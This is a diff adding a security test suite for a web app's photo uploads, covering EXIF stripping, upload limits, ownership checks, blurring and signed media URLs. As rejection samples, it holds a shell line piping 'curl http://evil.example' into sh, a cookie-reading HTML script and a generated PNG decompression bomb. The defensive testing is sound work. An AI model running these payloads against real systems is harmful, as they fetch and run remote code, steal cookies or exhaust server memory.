@@ -1,0 +1,264 @@
+import { crc32, deflateSync } from 'node:zlib';
+import sharp from 'sharp';
+import request from 'supertest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DEMO_LOGINS } from '../../seed/seed';
+import { createTestContext, loginCookie, type TestContext } from '../../test/context';
+
+let ctx: TestContext;
+let free: string;
+let premium: string;
+let freeId: number;
+let premiumId: number;
+
+async function idOf(email: string): Promise<number> {
+  const [row] = await ctx.db.query<{ id: number }>('SELECT id FROM users WHERE email = $1', [email]);
+  return row?.id as number;
+}
+
+beforeAll(async () => {
+  ctx = await createTestContext({ members: 30 });
+  free = await loginCookie(ctx.app, DEMO_LOGINS.free);
+  premium = await loginCookie(ctx.app, DEMO_LOGINS.premium);
+  freeId = await idOf(DEMO_LOGINS.free);
+  premiumId = await idOf(DEMO_LOGINS.premium);
+});
+afterAll(() => ctx?.close());
+
+const jpeg = (colour = '#c33', width = 64, height = 48) =>
+  sharp({ create: { width, height, channels: 3, background: colour } }).jpeg().toBuffer();
+
+/** A PNG whose header claims width×height pixels while the file stays tiny: a decompression bomb. */
+function pngBomb(width: number, height: number): Buffer {
+  const chunk = (type: string, data: Buffer) => {
+    const len = Buffer.alloc(4);
+    len.writeUInt32BE(data.length);
+    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(body));
+    return Buffer.concat([len, body, crc]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(width, 0);
+  ihdr.writeUInt32BE(height, 4);
+  ihdr.writeUInt8(8, 8); // bit depth
+  ihdr.writeUInt8(0, 9); // greyscale
+  const rows = deflateSync(Buffer.alloc((width + 1) * 64)); // the first rows only; zeros compress to almost nothing
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
+}
+
+const upload = (cookie: string, file: Buffer, name = 'photo.jpg', contentType = 'image/jpeg') =>
+  request(ctx.app).post('/api/photos.php').set('cookie', cookie).attach('photo', file, { filename: name, contentType });
+
+async function clearPhotos(userId: number) {
+  await ctx.db.query('DELETE FROM photos WHERE user_id = $1', [userId]);
+}
+
+describe('photo uploads', () => {
+  it('When a visitor uploads, then 403 authentication_required', async () => {
+    const res = await request(ctx.app).post('/api/photos.php').attach('photo', await jpeg(), 'a.jpg');
+    expect(res.status).toBe(403);
+  });
+
+  it('When a member uploads a JPEG with GPS EXIF, then it is stored re-encoded under a random name, without any EXIF, in three variants', async () => {
+    await clearPhotos(freeId);
+    const withGps = await sharp({ create: { width: 80, height: 60, channels: 3, background: '#3a6' } })
+      .jpeg()
+      .withExif({ IFD0: { Copyright: 'owner-secret' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 22/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '4/1 53/1 0/1' } })
+      .toBuffer();
+    expect((await sharp(withGps).metadata()).exif?.toString('latin1')).toContain('owner-secret');
+
+    const res = await upload(free, withGps, 'holiday-amsterdam.jpg');
+    expect(res.status).toBe(201);
+    expect(res.body.limit).toBe(3);
+    const [photo] = res.body.photos;
+    expect(photo).toMatchObject({ status: 'pending', is_main: true, locked: false });
+    expect(photo.match_path).not.toContain('holiday');
+    expect(photo.match_path).toMatch(/^s\/\d{10}\/[\w-]{43}\/u\/[0-9a-f]{2}\/[0-9a-f]{32}-full\.jpg$/);
+
+    const served = await request(ctx.app).get(`/media/${photo.match_path}`).buffer(true).parse((r, cb) => {
+      const chunks: Buffer[] = [];
+      r.on('data', (c: Buffer) => chunks.push(c));
+      r.on('end', () => cb(null, Buffer.concat(chunks)));
+    });
+    expect(served.status).toBe(200);
+    expect(served.headers['x-content-type-options']).toBe('nosniff');
+    const meta = await sharp(served.body as Buffer).metadata();
+    expect(meta.format).toBe('jpeg');
+    expect(meta.exif).toBeUndefined();
+    expect((served.body as Buffer).toString('latin1')).not.toContain('owner-secret');
+
+    const [row] = await ctx.db.query<{ filename: string; thumb_filename: string; blurred_filename: string }>(
+      'SELECT filename, thumb_filename, blurred_filename FROM photos WHERE id = $1',
+      [photo.id],
+    );
+    expect(new Set([row?.filename, row?.thumb_filename, row?.blurred_filename]).size).toBe(3);
+  });
+
+  it('When a script or an HTML page is uploaded as .jpg with an image type, then 422 photo_invalid and nothing is stored', async () => {
+    await clearPhotos(freeId);
+    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
+    const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
+    for (const file of [script, html]) {
+      const res = await upload(free, file, 'cute.jpg', 'image/jpeg');
+      expect(res.status).toBe(422);
+      expect(res.body.error.code).toBe('photo_invalid');
+    }
+    const rows = await ctx.db.query('SELECT id FROM photos WHERE user_id = $1', [freeId]);
+    expect(rows).toHaveLength(0);
+  });
+
+  it('When a decompression bomb (a tiny PNG claiming 30000×30000 pixels) is uploaded, then it is refused', async () => {
+    const bomb = pngBomb(30000, 30000);
+    expect(bomb.length).toBeLessThan(100_000);
+    const res = await upload(free, bomb, 'bomb.png', 'image/png');
+    expect(res.status).toBe(422);
+    expect(res.body.error.code).toBe('photo_invalid');
+  });
+
+  it('When a file is larger than 10 MB, then 413 payload_too_large', async () => {
+    const res = await upload(free, Buffer.alloc(10 * 1024 * 1024 + 10, 1), 'big.jpg');
+    expect(res.status).toBe(413);
+    expect(res.body.error.code).toBe('payload_too_large');
+  });
+
+  it('When a free member sends 4 uploads at once, then exactly 3 are stored and one is refused with photo_limit_reached', async () => {
+    await clearPhotos(freeId);
+    const files = await Promise.all(['#111', '#222', '#333', '#444'].map((c) => jpeg(c)));
+    const results = await Promise.all(files.map((f) => upload(free, f)));
+    expect(results.map((r) => r.status).sort()).toEqual([201, 201, 201, 422]);
+    expect(results.find((r) => r.status === 422)?.body.error).toMatchObject({ code: 'photo_limit_reached', params: { limit: 3 } });
+    const [count] = await ctx.db.query<{ n: number }>('SELECT count(*)::int AS n FROM photos WHERE user_id = $1', [freeId]);
+    expect(count?.n).toBe(3);
+    const main = await ctx.db.query('SELECT id FROM photos WHERE user_id = $1 AND is_main', [freeId]);
+    expect(main).toHaveLength(1);
+    const fourth = await upload(free, await jpeg('#555'));
+    expect(fourth.status).toBe(422);
+  });
+
+  it('When a premium member uploads, then the limit is 25', async () => {
+    const res = await upload(premium, await jpeg('#999'));
+    expect(res.status).toBe(201);
+    expect(res.body.limit).toBe(25);
+  });
+
+  it('When the owner picks a main photo and deletes one, then main moves; another member gets 404 for both', async () => {
+    const mine = await request(ctx.app).get('/api/my-profile.php').set('cookie', free);
+    const [first, second] = mine.body.profile.photos as { id: number; is_main: boolean }[];
+    expect(first?.is_main).toBe(true);
+
+    expect((await request(ctx.app).put('/api/photos.php').set('cookie', premium).send({ id: second?.id })).status).toBe(404);
+    expect((await request(ctx.app).delete('/api/photos.php').set('cookie', premium).send({ id: second?.id })).status).toBe(404);
+
+    const main = await request(ctx.app).put('/api/photos.php').set('cookie', free).send({ id: second?.id });
+    expect(main.status).toBe(200);
+    expect(main.body.photos[0]).toMatchObject({ id: second?.id, is_main: true });
+
+    const del = await request(ctx.app).delete('/api/photos.php').set('cookie', free).send({ id: second?.id });
+    expect(del.status).toBe(200);
+    expect(del.body.photos).toHaveLength(2);
+    expect(del.body.photos.filter((p: { is_main: boolean }) => p.is_main)).toHaveLength(1);
+    expect(del.body.photos.map((p: { id: number }) => p.id)).not.toContain(second?.id);
+  });
+
+  it('When another member or a visitor opens a profile with a pending photo, then the photo is not there; the owner sees it', async () => {
+    const other = await request(ctx.app).get('/api/profile.php').query({ id: freeId }).set('cookie', premium);
+    expect(other.status).toBe(200);
+    expect(other.body.profile.images).toHaveLength(0);
+    expect(other.body.profile.main_image).toBeNull();
+    const visitor = await request(ctx.app).get('/api/profile.php').query({ id: freeId });
+    expect(visitor.body.profile.images).toHaveLength(0);
+    const own = await request(ctx.app).get('/api/profile.php').query({ id: freeId }).set('cookie', free);
+    expect(own.body.profile.images.length).toBe(2);
+    expect(own.body.profile.main_image).not.toBeNull();
+  });
+});
+
+describe('who sees which photo', () => {
+  let galleryId: number;
+  let files: { filename: string; thumb_filename: string; blurred_filename: string; is_main: boolean }[];
+
+  beforeAll(async () => {
+    const [row] = await ctx.db.query<{ user_id: number }>(
+      `SELECT ph.user_id FROM photos ph JOIN users u ON u.id = ph.user_id JOIN profiles p ON p.user_id = u.id
+       WHERE ph.status = 'approved' AND u.status = 'active' AND p.status = 'active' AND NOT p.invisible AND u.id NOT IN ($1, $2)
+       GROUP BY ph.user_id HAVING count(*) >= 3 ORDER BY ph.user_id LIMIT 1`,
+      [freeId, premiumId],
+    );
+    galleryId = row?.user_id as number;
+    files = await ctx.db.query('SELECT filename, thumb_filename, blurred_filename, is_main FROM photos WHERE user_id = $1', [galleryId]);
+  });
+
+  const sharpFilesOfLockedPhotos = () =>
+    files.filter((f) => !f.is_main).flatMap((f) => [f.filename, f.thumb_filename]);
+
+  it('When a free member or a visitor opens a gallery, then only the main photo is sharp and the body holds no sharp URL of the others', async () => {
+    for (const cookie of [free, undefined]) {
+      const req = request(ctx.app).get('/api/profile.php').query({ id: galleryId });
+      const res = cookie ? await req.set('cookie', cookie) : await req;
+      expect(res.status).toBe(200);
+      const images = res.body.profile.images as { locked: boolean; match_path: string }[];
+      expect(images.length).toBeGreaterThanOrEqual(3);
+      expect(images.filter((i) => !i.locked)).toHaveLength(1);
+      const text = JSON.stringify(res.body);
+      // Locked photos of the seed reuse shared avatars: a file may be sharp as someone's main. Compare by path.
+      const mainFiles = files.filter((f) => f.is_main).flatMap((f) => [f.filename, f.thumb_filename]);
+      for (const file of sharpFilesOfLockedPhotos().filter((f) => !mainFiles.includes(f))) expect(text).not.toContain(file);
+      for (const image of images.filter((i) => i.locked)) expect(image.match_path).toMatch(/-blur\.jpg$/);
+    }
+  });
+
+  it('When a premium member opens the same gallery, then every photo is sharp', async () => {
+    const res = await request(ctx.app).get('/api/profile.php').query({ id: galleryId }).set('cookie', premium);
+    const images = res.body.profile.images as { locked: boolean; match_path: string }[];
+    expect(images.every((i) => !i.locked && !i.match_path.endsWith('-blur.jpg'))).toBe(true);
+  });
+
+  it('When a free member loads members, likes, chats, the user and a profile, then every photo path in the answers is signed', async () => {
+    for (const path of ['/api/members.php?limit=60', '/api/likes.php', '/api/chats.php', '/api/user.php', `/api/profile.php?id=${galleryId}`]) {
+      const res = await request(ctx.app).get(path).set('cookie', free).set('request-type', 'client');
+      expect(res.status).toBe(200);
+      const text = JSON.stringify(res.body);
+      expect(text).not.toMatch(/"(?:filename|thumb_filename|match_path)":"(?!s\/)/);
+    }
+  });
+});
+
+describe('signed photo URLs', () => {
+  let url: string;
+  beforeAll(async () => {
+    const res = await request(ctx.app).get('/api/members.php').query({ limit: 60 });
+    url = (res.body.profiles as { main_image: { match_path: string } | null }[]).find((p) => p.main_image)?.main_image?.match_path as string;
+  });
+
+  it('When the signed URL is fetched, then the photo is served with nosniff', async () => {
+    const res = await request(ctx.app).get(`/media/${url}`);
+    expect(res.status).toBe(200);
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
+    expect(res.headers['content-type']).toBe('image/jpeg');
+  });
+
+  it('When the signature, the expiry or the file of a URL is changed, then 403 media_url_invalid', async () => {
+    const [, expiry, sig, ...file] = url.split('/');
+    const tampered = [
+      `s/${expiry}/${(sig as string).replace(/^./, (c) => (c === 'A' ? 'B' : 'A'))}/${file.join('/')}`,
+      `s/${Number(expiry) + 3600}/${sig}/${file.join('/')}`,
+      `s/${expiry}/${sig}/${file.join('/').replace('.jpg', '-blur.jpg')}`,
+    ];
+    for (const t of tampered) {
+      const res = await request(ctx.app).get(`/media/${t}`);
+      expect(res.status).toBe(403);
+      expect(res.body.error.code).toBe('media_url_invalid');
+    }
+  });
+
+  it('When an expired URL or the stored path itself is asked for, then it is refused', async () => {
+    const { createMediaSigner, loadMediaKey } = await import('./signing');
+    const signer = createMediaSigner(await loadMediaKey(ctx.db));
+    const file = url.split('/').slice(3).join('/');
+    const old = signer.sign(file, Date.now() - 3 * 3600_000);
+    expect((await request(ctx.app).get(`/media/${old}`)).status).toBe(403);
+    expect((await request(ctx.app).get(`/media/${signer.sign(file)}`)).status).toBe(200);
+    expect((await request(ctx.app).get(`/media/${file}`)).status).toBe(404);
+  });
+});
